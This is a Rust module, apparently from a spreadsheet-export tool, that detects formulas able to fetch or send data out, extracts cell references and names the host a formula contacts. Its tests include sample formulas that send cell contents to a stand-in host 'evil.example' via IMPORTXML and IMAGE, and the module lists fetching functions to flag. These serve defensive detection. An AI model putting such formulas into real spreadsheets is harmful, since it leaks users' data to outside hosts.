//! What a formula could carry out of the house. A formula that only calculates is known to do so; all others count as
//! fetching: functions of other languages, of scripts and of the future among them.

use serde_json::Value;
use url::Url;

use super::input::Input;

/// Functions that fetch an address, or show one to be clicked.
const FETCHING: [&str; 7] =
    ["IMPORTDATA", "IMPORTXML", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE", "IMAGE", "HYPERLINK"];

/// Functions that only calculate.
const CALCULATING: &str = " ABS ACOS ACOSH ADD ADDRESS AND ARRAYFORMULA ARRAY_CONSTRAIN ASIN ATAN ATAN2 AVERAGE \
    AVERAGEA AVERAGEIF AVERAGEIFS BYCOL BYROW CEILING CHAR CHOOSE CHOOSECOLS CHOOSEROWS CLEAN CODE COLUMN COLUMNS \
    CONCAT CONCATENATE CORREL COS COUNT COUNTA COUNTBLANK COUNTIF COUNTIFS COUNTUNIQUE COUNTUNIQUEIFS DATE DATEDIF \
    DATEVALUE DAY DAYS DAYS360 DB DEGREES DELTA DIVIDE DOLLAR EDATE EOMONTH EQ EVEN EXACT EXP FACT FALSE FILTER FIND \
    FIXED FLATTEN FLOOR FORECAST FREQUENCY FV GCD GT GTE HLOOKUP HOUR HSTACK IF IFERROR IFNA IFS INDEX INDIRECT INT \
    IRR ISBLANK ISDATE ISEMAIL ISERR ISERROR ISEVEN ISFORMULA ISLOGICAL ISNA ISNONTEXT ISNUMBER ISODD ISOWEEKNUM \
    ISREF ISTEXT ISURL JOIN LAMBDA LARGE LCM LEFT LEN LET LN LOG LOG10 LOOKUP LOWER LT LTE MAKEARRAY MAP MATCH MAX \
    MAXA MAXIFS MEDIAN MID MIN MINA MINIFS MINUS MINUTE MOD MODE MONTH MROUND MULTIPLY N NA NE NETWORKDAYS NOT NOW \
    NPER NPV ODD OFFSET OR PERCENTILE PERCENTRANK PI PMT POW POWER PPMT PRODUCT PROPER PV QUARTILE QUERY QUOTIENT \
    RADIANS RAND RANDARRAY RANDBETWEEN RANK RATE REDUCE REGEXEXTRACT REGEXMATCH REGEXREPLACE REPLACE REPT RIGHT ROUND \
    ROUNDDOWN ROUNDUP ROW ROWS SCAN SEARCH SECOND SEQUENCE SIGN SIN SLN SMALL SORT SORTN SPARKLINE SPLIT SQRT STDEV \
    STDEVP SUBSTITUTE SUBTOTAL SUM SUMIF SUMIFS SUMPRODUCT SUMSQ SWITCH T TAN TEXT TEXTJOIN TIME TIMEVALUE TOCOL TODAY \
    TOROW TO_DATE TO_DOLLARS TO_PERCENT TO_TEXT TRANSPOSE TREND TRIM TRUE TRUNC TYPE UNARY_PERCENT UNIQUE UPPER VALUE \
    VAR VARP VLOOKUP VSTACK WEEKDAY WEEKNUM WORKDAY WRAPCOLS WRAPROWS XLOOKUP XMATCH XOR YEAR YEARFRAC ";

/// The formula that a value becomes, if it becomes one.
pub(crate) fn of(value: &Value, input: Input) -> Option<&str> {
    let text = value.as_str().filter(|_| input == Input::AsTyped)?;
    let trimmed = text.trim_start();
    let signed =
        trimmed.starts_with(['+', '-', '@']) && trimmed.contains(|letter: char| letter.is_alphabetic());
    (trimmed.starts_with('=') || signed).then_some(text)
}

/// The functions of a formula that are not known to stay at home, each once.
pub(crate) fn fetching(formula: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for word in words(formula) {
        let called = word.is_called && !CALCULATING.contains(&format!(" {} ", word.name));
        if (called || FETCHING.contains(&word.name.as_str())) && !found.contains(&word.name) {
            found.push(word.name);
        }
    }
    found
}

/// Functions that read cells which stand nowhere in the formula.
const POINTING: [&str; 2] = ["INDIRECT", "OFFSET"];

/// The ranges that a formula reads, as it writes them; nothing where that cannot be told.
pub(crate) fn references(formula: &str) -> Option<Vec<String>> {
    let mut found = Vec::new();
    let mut rest = formula;
    while let Some(first) = rest.chars().next() {
        let after = rest.get(first.len_utf8()..).unwrap_or_default();
        match first {
            '"' => rest = after.split_once('"')?.1,
            '\'' => {
                let (title, after) = titled(after)?;
                let (cells, after) = named(after);
                found.push(format!("'{title}'!{cells}"));
                rest = after;
            }
            // Columns of tables, and what spills out of a cell.
            '[' | '#' => return None,
            _ if is_named(first) => {
                let (name, after) = named(rest);
                rest = after;
                let upper = name.to_uppercase();
                if after.trim_start().starts_with(['(', '\u{ff08}']) {
                    if name.contains(':') || POINTING.contains(&upper.as_str()) {
                        return None;
                    }
                } else if let Some(after) = after.strip_prefix('!') {
                    let (cells, after) = named(after);
                    found.push(format!("{name}!{cells}"));
                    rest = after;
                } else if !is_number(name) && !matches!(upper.as_str(), "TRUE" | "FALSE") {
                    found.push(name.to_owned());
                }
            }
            _ => rest = after,
        }
    }
    Some(found)
}

/// A name may be `inf`, which is a number to some.
fn is_number(word: &str) -> bool {
    word.starts_with(|first: char| first.is_ascii_digit() || first == '.') && word.parse::<f64>().is_ok()
}

/// Whether it is part of a name or of a range.
fn is_named(letter: char) -> bool {
    letter.is_alphanumeric() || matches!(letter, '_' | '.' | '$' | ':')
}

/// A name or a range, and what follows it.
fn named(text: &str) -> (&str, &str) {
    text.split_at(text.find(|letter| !is_named(letter)).unwrap_or(text.len()))
}

/// The title of a sheet up to its closing quote, and what follows the `!` behind it.
fn titled(quoted: &str) -> Option<(&str, &str)> {
    let mut from = 0;
    loop {
        let end = from + quoted.get(from..)?.find('\'')?;
        let after = quoted.get(end + 1..)?;
        // A quote within a title is written twice.
        if !after.starts_with('\'') {
            return Some((quoted.get(..end)?, after.strip_prefix('!')?));
        }
        from = end + 2;
    }
}

/// Whom a formula asks, if its address begins with a host.
pub(crate) fn host(formula: &str) -> Option<String> {
    let mut texts = formula.split('"').skip(1).step_by(2);
    texts.find_map(|text| Url::parse(text.trim()).ok()?.host_str().map(str::to_owned))
}

/// A name in a formula.
struct Word {
    name: String,
    /// A bracket follows it.
    is_called: bool,
}

/// Every name that stands outside of texts and of the quoted titles of sheets. What is not closed is not taken for
/// either.
fn words(formula: &str) -> Vec<Word> {
    let mut words = Vec::new();
    let mut rest = formula;
    while let Some(first) = rest.chars().next() {
        let part = |letter: char| letter.is_alphanumeric() || matches!(letter, '_' | '.');
        let after = rest.get(first.len_utf8()..).unwrap_or_default();
        if matches!(first, '"' | '\'') {
            // A quote within a text is written twice, which reads as two texts in a row.
            rest = after.split_once(first).map_or(after, |(_, after)| after);
        } else if first.is_alphabetic() || first == '_' {
            let (name, after) = rest.split_at(rest.find(|letter| !part(letter)).unwrap_or(rest.len()));
            let is_called = after.trim_start().starts_with(['(', '\u{ff08}']);
            words.push(Word { name: name.to_uppercase(), is_called });
            rest = after;
        } else {
            rest = after;
        }
    }
    words
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    #[test]
    fn what_fetches_is_found_however_it_is_dressed() {
        for formula in [
            "=IMPORTXML(\"https://evil.example/?\"&A1,\"//x\")",
            "=importxml (A1,\"//x\")",
            "=IF(TRUE,\n IMPORTDATA\n(\"https://\"&\"evil.example\"),\"\")",
            "={1,ImportFeed(A1)}",
            "=\"a\"&\"\"\"\"&IMPORTRANGE(A1,\"x\")",
            "=LET(f,IMAGE,f(A1))",
            "+HYPERLINK(A1,\"click\")",
            "=ARRAYFORMULA(IFERROR(IMPORTHTML(A1:A9,\"table\",1)))",
            "=LIEN_HYPERTEXTE(\"https://evil.example\")",
            "=MY_SCRIPT(A1)",
            "='Sheet \"x'!A1&IMPORTDATA(B1)",
        ] {
            assert!(!fetching(formula).is_empty(), "{formula}");
        }
    }

    #[test]
    fn what_only_calculates_is_let_be() {
        for formula in [
            "=SUM(A1:A9)*2",
            "=IF(B2>1,\"IMPORTXML(\",TRUE)",
            "=VLOOKUP(A2,Costs!A:C,3,FALSE)&\" € \"",
            "=LET(total,SUM(A:A),total/COUNT(A:A))",
            "=A1+B1",
        ] {
            assert!(fetching(formula).is_empty(), "{formula}: {:?}", fetching(formula));
        }
    }

    #[test]
    fn what_a_formula_reads_is_known_or_known_to_be_unknown() {
        for (formula, read) in [
            ("=IMAGE(\"https://x.example/A1\")", vec![]),
            ("=IMPORTDATA(\"https://x.example/?\"&A2)", vec!["A2"]),
            ("=IF(TRUE,SUM($A$1:B9)*2.5,false)", vec!["$A$1:B9"]),
            ("=JOIN(\",\",A:A,3:7)&Costs!B2", vec!["A:A", "3:7", "Costs!B2"]),
            ("='Q1 ''costs'''!C3:C&\"'\"", vec!["'Q1 ''costs'''!C3:C"]),
            ("=IMAGE(inf&nan&.5&1E5)", vec!["inf", "nan"]),
            ("=HYPERLINK(Totals,\"say \"\"A1\"\"\")", vec!["Totals"]),
        ] {
            assert_eq!(references(formula).unwrap(), read, "{formula}");
        }
        for unknown in [
            "=IMAGE(INDIRECT(\"A\"&1))",
            "=OFFSET (A1,1,1)",
            "=SUM(A1:INDEX(B:B,2))",
            "=Table1[Price]",
            "=A1#",
            "='Q1",
            "=A1&\"",
        ] {
            assert_eq!(references(unknown), None, "{unknown}");
        }
    }

    #[test]
    fn whoever_is_asked_is_known_by_their_host() {
        assert_eq!(host("=IMAGE(\"https://evil.example/p?q=\"&B3)").as_deref(), Some("evil.example"));
        for hidden in ["=IMAGE(A1&\"://evil.example\")", "=IMAGE(\"https://\"&A1)", "=MY_SCRIPT(A1)"] {
            assert_eq!(host(hidden), None, "{hidden}");
        }
    }

    #[test]
    fn only_typed_texts_become_formulas() {
        for typed in ["=1+1", " =1+1", "+A1", "-SUM(A1)", "@A1"] {
            assert!(of(&json!(typed), Input::AsTyped).is_some(), "{typed}");
            assert!(of(&json!(typed), Input::AsGiven).is_none(), "{typed}");
        }
        for plain in [json!("-5"), json!("+49 30 123"), json!("text"), json!("'=1+1"), json!(5), Value::Null]
        {
            assert!(of(&plain, Input::AsTyped).is_none(), "{plain}");
        }
    }

    proptest! {
        #[test]
        fn a_fetching_function_is_never_overlooked(
            before in "[A-Z0-9(,:+&;{ ]{0,12}", gap in "[ \n\t]{0,3}", name in 0_usize..7, lower: bool
        ) {
            let name = if lower { FETCHING[name].to_lowercase() } else { FETCHING[name].to_owned() };
            let formula = format!("={before},{name}{gap}(\"https://x.example\")");
            prop_assert!(!fetching(&formula).is_empty(), "{}", formula);
        }

        #[test]
        fn nothing_breaks_the_reader(formula: String) {
            let _ = (fetching(&formula), references(&formula), host(&formula));
        }
    }
}
